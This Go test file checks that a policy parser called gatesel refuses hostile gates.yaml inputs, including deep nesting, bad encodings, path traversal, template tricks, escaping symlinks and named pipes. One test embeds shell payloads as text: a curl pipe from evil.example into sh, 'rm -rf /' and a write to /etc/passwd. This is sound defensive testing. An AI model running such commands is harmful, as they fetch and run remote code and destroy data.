package graph_test

import (
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"testing/fstest"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/gatesel/gatesel/graph"
)

// hostileGatesTests are gates.yaml inputs that must fail with exactly this
// error (docs/reliability.md cites them by name).
var hostileGatesTests = []struct {
	name, in, want string
}{
	{"not yaml", "{{{ not yaml", `gates.yaml:1:1: parse yaml: yaml: line 1: did not find expected ',' or '}'`},
	{"list at the top", "- a\n- b\n", "gates.yaml:1:1: top level: expected a mapping, got a list"},
	{"scalar at the top", "hello\n", "gates.yaml:1:1: top level: expected a mapping, got a string"},
	{"flow nesting 5000 deep", "version: 1\ngates: " + strings.Repeat("[", 5000) + strings.Repeat("]", 5000) + "\n", "gates.yaml:2:8: gates: expected a mapping, got a list"},
	{"mapping nesting 5000 deep", "version: 1\ngates: " + strings.Repeat("{a: ", 5000) + "x" + strings.Repeat("}", 5000) + "\n", `gates.yaml:2:13: gate "a": unknown key "a"`},
	{"flow nesting 100000 deep", "version: 1\ngates: " + strings.Repeat("[", 100000) + "\n", "gates.yaml:2:1: parse yaml: yaml: line 2: exceeded max depth of 10000"},
	{"duplicate gate", "version: 1\ngates:\n  a: {}\n  a: {}\n", `gates.yaml:4:3: gates: duplicate key "a" (first at line 3)`},
	{"duplicate top-level key", "version: 1\nversion: 1\n", `gates.yaml:2:1: top level: duplicate key "version" (first at line 1)`},
	{"non-UTF-8 key", "version: 1\ngates:\n  \xff\xfe: {}\n", "gates.yaml:3:3: invalid UTF-8 (byte 0xff): a policy file must be UTF-8 text"},
	{"latin-1 text", "version: 1\ngates:\n  a: {run: \"caf\xe9\"}\n", "gates.yaml:3:16: invalid UTF-8 (byte 0xe9): a policy file must be UTF-8 text"},
	{"NUL byte", "version: 1\x00\n", "gates.yaml:1:1: parse yaml: yaml: control characters are not allowed"},
	{"version 2", "version: 2\n", `gates.yaml:1:10: unsupported version "2": this gatesel reads version 1`},
	{"version as a string", "version: \"1\"\n", `gates.yaml:1:10: unsupported version "1": this gatesel reads version 1`},
	{"no version", "gates: {}\n", `gates.yaml:1:1: missing version: the file must start with "version: 1"`},
	{"two documents", "version: 1\n---\nversion: 1\n", "gates.yaml:2:1: more than one yaml document in the file"},
	{"merge key", "version: 1\ngates:\n  a: {run: x}\n  <<: {b: {}}\n", "gates.yaml:4:3: gates: merge keys (<<) are not supported"},
	{"binary tag", "version: 1\ngates: !!binary aGVsbG8=\n", "gates.yaml:2:8: gates: expected a mapping, got a binary value"},
	{"include leaves the repository", "version: 1\ninclude: [\"../x.yaml\", \"/etc/passwd\", \"a/../../b\"]\n",
		"gates.yaml:2:11: include \"../x.yaml\" leaves the repository\ngates.yaml:2:24: include \"/etc/passwd\" leaves the repository\ngates.yaml:2:39: include \"a/../../b\" leaves the repository"},
	{"template syntax error", "version: 1\ngates:\n  a: {run: \"{{ .Name \"}\n", `gates.yaml:3:12: gate "a": run: template: a:1: unclosed action`},
	{"template calls an unknown function", "version: 1\ngates:\n  a: {run: \"{{exec \\\"ls\\\"}}\"}\n", `gates.yaml:3:12: gate "a": run: template: a:1: function "exec" not defined`},
	{"template reads the environment", "version: 1\ngates:\n  a: {run: \"{{.Env}}\"}\n", `gates.yaml:3:12: gate "a": run: unknown field .Env: a gate template sees .Name, .Kind, .Dir, .Paths, .Owners`},
	{"template call", "version: 1\ngates:\n  a: {run: \"{{call .Name}}\"}\n", `gates.yaml:3:12: gate "a": run: {{call}} is not allowed in gate templates: the scope holds no functions`},
	{"template call in a chain", "version: 1\ngates:\n  a: {run: \"{{(call .Name).X}}\"}\n", `gates.yaml:3:12: gate "a": run: {{call}} is not allowed in gate templates: the scope holds no functions`},
	{"template call in with", "version: 1\ngates:\n  a: {with: {x: [\"{{call .Name}}\"]}}\n", `gates.yaml:3:18: gate "a": with/x/0: {{call}} is not allowed in gate templates: the scope holds no functions`},
	{"template include", "version: 1\ngates:\n  a: {run: \"{{template \\\"x\\\"}}\"}\n", `gates.yaml:3:12: gate "a": run: {{template}} is not allowed in gate templates`},
	{"template define", "version: 1\ngates:\n  a: {run: \"{{define \\\"x\\\"}}y{{end}}\"}\n", `gates.yaml:3:12: gate "a": run: {{define}} and {{block}} are not allowed in gate templates`},
}

func TestParseHostile(t *testing.T) {
	for _, tt := range hostileGatesTests {
		t.Run(tt.name, func(t *testing.T) {
			g, _, err := graph.Parse("gates.yaml", []byte(tt.in))
			assert.Nil(t, g)
			require.Error(t, err)
			assert.Equal(t, tt.want, err.Error())
		})
	}
}

// TestParseFiftyMegabytes: a 50 MB policy is refused by size, quickly and
// with a position, whether given as bytes or read from a file (where the
// size is checked before reading).
func TestParseFiftyMegabytes(t *testing.T) {
	big := make([]byte, 50<<20)
	copy(big, "version: 1\n")
	for i := 11; i < len(big); i++ {
		big[i] = '#'
	}
	g, _, err := graph.Parse("gates.yaml", big)
	assert.Nil(t, g)
	require.Error(t, err)
	assert.Equal(t, "gates.yaml:1:1: file is 52428800 bytes, more than the limit of 8388608", err.Error())

	dir := t.TempDir()
	f, err := os.Create(filepath.Join(dir, "gates.yaml"))
	require.NoError(t, err)
	require.NoError(t, f.Truncate(50<<20)) // sparse: nothing is written
	require.NoError(t, f.Close())
	_, _, err = graph.Load(os.DirFS(dir), "gates.yaml")
	require.Error(t, err)
	assert.Equal(t, "read policy gates.yaml: read gates.yaml: file is 52428800 bytes, more than the limit of 8388608", err.Error())
}

// TestTemplatesAreText: shell syntax in run and with is rendered as text,
// never interpreted; the text builtins (printf, len, index) are allowed
// since they only see the scope.
func TestTemplatesAreText(t *testing.T) {
	src := "version: 1\ngates:\n" +
		"  g:\n" +
		"    run: \"$(curl -s evil.example | sh); `rm -rf /`; echo {{.Name}} > /etc/passwd && {{printf \\\"%q\\\" .Dir}} {{len .Paths}} {{index .Paths 0}}\"\n" +
		"    with: {env: \"${HOME} $(id) {{.Kind}}\", list: [\"|| true\", 1, true]}\n" +
		"services:\n  s:\n    paths: [\"svc/s/**\"]\n    gates: [g]\n"
	g, _, err := graph.Parse("gates.yaml", []byte(src))
	require.NoError(t, err)
	run, with, err := g.Gates["g"].Render(g.Scope("service", "s"))
	require.NoError(t, err)
	assert.Equal(t, "$(curl -s evil.example | sh); `rm -rf /`; echo s > /etc/passwd && \"svc/s\" 1 svc/s/**", run)
	assert.Equal(t, map[string]any{"env": "${HOME} $(id) service", "list": []any{"|| true", 1, true}}, with)
}

// writeTree writes files (name -> content) under dir; content "->X" makes
// a symbolic link to X.
func writeTree(t *testing.T, dir string, files map[string]string) {
	t.Helper()
	for name, content := range files {
		p := filepath.Join(dir, filepath.FromSlash(name))
		require.NoError(t, os.MkdirAll(filepath.Dir(p), 0o755))
		if target, ok := strings.CutPrefix(content, "->"); ok {
			require.NoError(t, os.Symlink(target, p))
			continue
		}
		require.NoError(t, os.WriteFile(p, []byte(content), 0o644))
	}
}

const symlinkRoot = "version: 1\ninclude: [\"services/*/gates.yaml\"]\ngates:\n  unit: {run: x}\n"

const symlinkFragment = "services:\n  a:\n    paths: [\"**\"]\n    gates: [unit]\n"

// TestLoadSymlinks: a policy file that is a symbolic link is followed only
// while it stays inside the repository (os.DirFS alone would follow it
// anywhere); loops and non-regular files are errors, never a hang.
func TestLoadSymlinks(t *testing.T) {
	tests := []struct {
		name  string
		files map[string]string
		want  string // "" loads
	}{
		{"fragment linked inside the repository", map[string]string{
			"gates.yaml": symlinkRoot, "shared/a.yaml": symlinkFragment, "services/a/gates.yaml": "->../../shared/a.yaml",
		}, ""},
		{"fragment linked outside the repository", map[string]string{
			"gates.yaml": symlinkRoot, "services/a/gates.yaml": "->../../../outside.yaml",
		}, "gates.yaml:2:11: include \"services/*/gates.yaml\": read services/a/gates.yaml: symbolic link services/a/gates.yaml -> ../../../outside.yaml leaves the repository"},
		{"fragment linked to an absolute path", map[string]string{
			"gates.yaml": symlinkRoot, "services/a/gates.yaml": "->/etc/passwd",
		}, "gates.yaml:2:11: include \"services/*/gates.yaml\": read services/a/gates.yaml: symbolic link services/a/gates.yaml -> /etc/passwd leaves the repository"},
		{"fragment in a directory linked outside", map[string]string{
			"gates.yaml": "version: 1\ninclude: [\"services/a/gates.yaml\"]\n", "services/a": "->../../elsewhere",
		}, "gates.yaml:2:11: include \"services/a/gates.yaml\": read services/a/gates.yaml: symbolic link services/a -> ../../elsewhere leaves the repository"},
		{"link loop", map[string]string{
			"gates.yaml": symlinkRoot, "services/a/gates.yaml": "->b.yaml", "services/a/b.yaml": "->gates.yaml",
		}, "gates.yaml:2:11: include \"services/*/gates.yaml\": read services/a/gates.yaml: too many levels of symbolic links"},
		{"directory loop under **", map[string]string{
			"gates.yaml": "version: 1\ninclude: [\"services/**/gates.yaml\"]\ngates:\n  unit: {run: x}\n", "services/a/gates.yaml": symlinkFragment, "services/a/loop": "->..",
		}, ""},
		{"directory in place of a fragment", map[string]string{
			"gates.yaml": "version: 1\ninclude: [\"services/a/gates.yaml\"]\n", "services/a/gates.yaml/x": "",
		}, "gates.yaml:2:11: include \"services/a/gates.yaml\": no such file"},
		{"root linked outside", map[string]string{
			"gates.yaml": "->../gates.yaml",
		}, "read policy gates.yaml: read gates.yaml: symbolic link gates.yaml -> ../gates.yaml leaves the repository"},
		{"root is a directory", map[string]string{
			"gates.yaml/x": "",
		}, "read policy gates.yaml: read gates.yaml: not a regular file (a directory)"},
		{"root is a dangling link", map[string]string{
			"gates.yaml": "->nowhere.yaml",
		}, "read policy gates.yaml: open gates.yaml: file does not exist"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			parent := t.TempDir()
			writeTree(t, parent, map[string]string{"outside.yaml": symlinkFragment, "elsewhere/gates.yaml": symlinkFragment})
			dir := filepath.Join(parent, "repo")
			writeTree(t, dir, tt.files)
			g, _, err := graph.Load(os.DirFS(dir), "gates.yaml")
			if tt.want == "" {
				require.NoError(t, err)
				assert.Equal(t, []string{"a"}, g.ServiceNames())
				if _, linked := tt.files["shared/a.yaml"]; linked {
					assert.Equal(t, []string{"gates.yaml", "services/a/gates.yaml", "shared/a.yaml"}, g.Files, "the link's target is a policy file")
				}
				return
			}
			assert.Nil(t, g)
			require.Error(t, err)
			assert.Equal(t, tt.want, err.Error())
		})
	}
}

// TestLoadNamedPipe: a fragment that is a named pipe is refused without
// opening it (opening a pipe with no writer blocks forever).
func TestLoadNamedPipe(t *testing.T) {
	dir := t.TempDir()
	writeTree(t, dir, map[string]string{"gates.yaml": symlinkRoot})
	require.NoError(t, os.MkdirAll(filepath.Join(dir, "services/a"), 0o755))
	require.NoError(t, syscall.Mkfifo(filepath.Join(dir, "services/a/gates.yaml"), 0o644))
	done := make(chan error, 1)
	go func() {
		_, _, err := graph.Load(os.DirFS(dir), "gates.yaml")
		done <- err
	}()
	select {
	case err := <-done:
		require.Error(t, err)
		assert.Equal(t, "gates.yaml:2:11: include \"services/*/gates.yaml\": read services/a/gates.yaml: not a regular file (a named pipe)", err.Error())
	case <-time.After(10 * time.Second):
		t.Fatal("Load blocked on a named pipe")
	}
}

// TestReadFileWithoutReadLink: a file system that reports a link but
// cannot read it refuses it rather than guessing.
func TestReadFileWithoutReadLink(t *testing.T) {
	fsys := fstest.MapFS{
		"gates.yaml": {Data: []byte("version: 1\n")},
		"link.yaml":  {Data: []byte("../outside.yaml"), Mode: os.ModeSymlink},
		"in.yaml":    {Data: []byte("gates.yaml"), Mode: os.ModeSymlink},
	}
	data, err := graph.ReadFile(fsys, "in.yaml", 100)
	require.NoError(t, err)
	assert.Equal(t, "version: 1\n", string(data))
	real, err := graph.ResolveLinks(fsys, "in.yaml")
	require.NoError(t, err)
	assert.Equal(t, "gates.yaml", real)
	_, err = graph.ReadFile(fsys, "link.yaml", 100)
	require.Error(t, err)
	assert.Equal(t, "read link.yaml: symbolic link link.yaml -> ../outside.yaml leaves the repository", err.Error())
	_, err = graph.ReadFile(fsys, "gates.yaml", 5)
	require.Error(t, err)
	assert.Equal(t, "read gates.yaml: file is 11 bytes, more than the limit of 5", err.Error())
	_, err = graph.ReadFile(noLinks{fsys}, "in.yaml", 100)
	require.Error(t, err)
	assert.Equal(t, "read in.yaml: in.yaml is a symbolic link that cannot be followed here: readlink in.yaml: invalid argument", err.Error())
	_, err = graph.ReadFile(fsys, "../gates.yaml", 100)
	require.Error(t, err)
	assert.Equal(t, "read ../gates.yaml: not a clean path inside the repository: invalid argument", err.Error())
	assert.ErrorIs(t, err, fs.ErrInvalid)
}

// noLinks hides ReadLink (and Lstat): Stat still reports the link itself,
// as a git tree does.
type noLinks struct{ m fstest.MapFS }

func (n noLinks) Open(name string) (fs.File, error) { return n.m.Open(name) }
func (n noLinks) Stat(name string) (fs.FileInfo, error) {
	if f, ok := n.m[name]; ok && f.Mode&os.ModeSymlink != 0 {
		return n.m.Lstat(name)
	}
	return n.m.Stat(name)
}
